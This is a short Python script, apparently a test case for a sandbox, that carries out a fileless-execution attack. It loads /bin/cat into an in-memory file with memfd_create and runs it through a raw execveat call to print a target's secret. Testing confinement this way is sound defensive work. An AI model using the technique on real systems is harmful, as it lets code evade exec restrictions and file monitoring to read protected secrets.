# A program that is in no file.
import ctypes
import os

from calls import AT_EMPTY_PATH, call
from inside import in_child, run


def attack(target):
    fd = os.memfd_create("program")
    with open("/bin/cat", "rb") as file:
        os.write(fd, file.read())
    words = b"cat\0", target.secret.encode() + b"\0"
    in_child(lambda: execute(fd, words))


def execute(fd, words):
    pointers = (ctypes.c_char_p * 3)(words[0], words[1], None)
    environment = (ctypes.c_char_p * 1)(None)
    call("execveat", fd, b"", pointers, environment, AT_EMPTY_PATH)


run(attack)
